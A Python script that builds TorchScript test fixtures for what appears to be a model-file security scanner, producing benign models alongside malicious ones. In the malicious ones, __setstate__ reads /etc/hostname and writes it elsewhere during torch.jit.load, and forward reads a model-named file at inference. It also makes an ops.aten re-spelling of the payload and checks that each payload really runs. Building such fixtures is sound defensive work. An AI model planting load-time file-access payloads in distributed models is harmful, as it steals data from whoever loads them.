"""Makes the TorchScript fixtures in this folder with real PyTorch.

Run with a Python that has torch (2.15.0 from PyPI was used):
    python3 -m venv /tmp/torchvenv && /tmp/torchvenv/bin/pip install torch==2.15.0
    cd crates/mlsec-scan/tests/data/torchscript && /tmp/torchvenv/bin/python make.py

torch.jit.load compiles an archive's code/ and runs each object's __setstate__ while it
loads; forward runs at inference. Every malicious fixture is loaded here (and, where the
payload sits in forward, called), and the script checks that the file operation really
happened, so each one is a working attack on the torch version named above.
"""
import io
import os
import shutil
import sys
import tempfile
import zipfile
from typing import Tuple

import torch

HERE = os.path.dirname(os.path.abspath(__file__))
TMP = tempfile.mkdtemp()
MARK = os.path.join(TMP, "owned")


class Benign(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.l = torch.nn.Linear(4, 2)

    def forward(self, x):
        return torch.softmax(torch.relu(self.l(x)), dim=1)


class WithState(torch.nn.Module):
    """A legitimate __getstate__/__setstate__ pair, as quantized modules have."""

    def __init__(self):
        super().__init__()
        self.w = torch.ones(2)

    def forward(self, x):
        return x * self.w

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, bool]:
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, bool]) -> None:
        self.w = state[0]
        self.training = state[1]


class SetstateFileIO(torch.nn.Module):
    """Reads a local file and writes it elsewhere while torch.jit.load runs."""

    def __init__(self):
        super().__init__()
        self.w = torch.zeros(2)
        self.target = MARK

    def forward(self, x):
        return x + self.w

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, str, bool]:
        return (self.w, self.target, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, str, bool]) -> None:
        self.w = state[0]
        self.target = state[1]
        self.training = state[2]
        stolen = torch.from_file("/etc/hostname", False, 2, dtype=torch.uint8)
        torch.save(stolen, self.target)


class ForwardFromFile(torch.nn.Module):
    """Reads a file the model names, at inference."""

    def __init__(self):
        super().__init__()
        self.path = MARK

    def forward(self, x):
        t = torch.from_file(self.path, True, 1, dtype=torch.uint8)
        return x + t.to(torch.float32)


def save(module, name, lite=False):
    scripted = torch.jit.script(module)
    path = os.path.join(HERE, name)
    if lite:
        scripted._save_for_lite_interpreter(path)
    else:
        torch.jit.save(scripted, path)
    return path


def rewrite_code(src, dst, old, new):
    """Copies a TorchScript zip, replacing `old` by `new` in its code/ sources."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        done = False
        for info in zin.infolist():
            data = zin.read(info.filename)
            if "/code/" in info.filename and info.filename.endswith(".py") and old.encode() in data:
                data = data.replace(old.encode(), new.encode())
                done = True
            zout.writestr(info, data)
    assert done, old


def owned_after(load):
    if os.path.exists(MARK):
        os.remove(MARK)
    load()
    return os.path.exists(MARK)


def main():
    try:
        save(Benign(), "benign_scripted.pt")
        torch.jit.save(torch.jit.trace(Benign(), torch.zeros(1, 4)), os.path.join(HERE, "benign_traced.pt"))
        save(WithState(), "benign_setstate.pt")
        save(Benign(), "benign_lite.ptl", lite=True)
        q = torch.ao.quantization.quantize_dynamic(Benign(), {torch.nn.Linear}, dtype=torch.qint8)
        save(q, "benign_quantized.pt")

        p = save(SetstateFileIO(), "setstate_file_io.pt")
        assert owned_after(lambda: torch.jit.load(p)), "setstate payload did not run"

        # The same payload spelled as operator calls: ops.aten.save / ops.aten.from_file.
        alt = os.path.join(HERE, "setstate_ops_aten.pt")
        rewrite_code(p, alt + ".tmp", "torch.save(", "ops.aten.save(")
        rewrite_code(alt + ".tmp", alt, "torch.from_file(", "ops.aten.from_file(")
        os.remove(alt + ".tmp")
        assert owned_after(lambda: torch.jit.load(alt)), "ops.aten payload did not run"

        open(MARK, "wb").write(b"\x01")
        p = save(ForwardFromFile(), "forward_from_file.pt")
        m = torch.jit.load(p)
        print("forward_from_file read", m(torch.zeros(1)))

        p = save(SetstateFileIO(), "setstate_file_io_lite.ptl", lite=True)
        from torch.jit.mobile import _load_for_lite_interpreter
        assert owned_after(lambda: _load_for_lite_interpreter(p)), "lite payload did not run"
        print("all payloads ran; torch", torch.__version__)
    finally:
        shutil.rmtree(TMP)


if __name__ == "__main__":
    sys.exit(main())
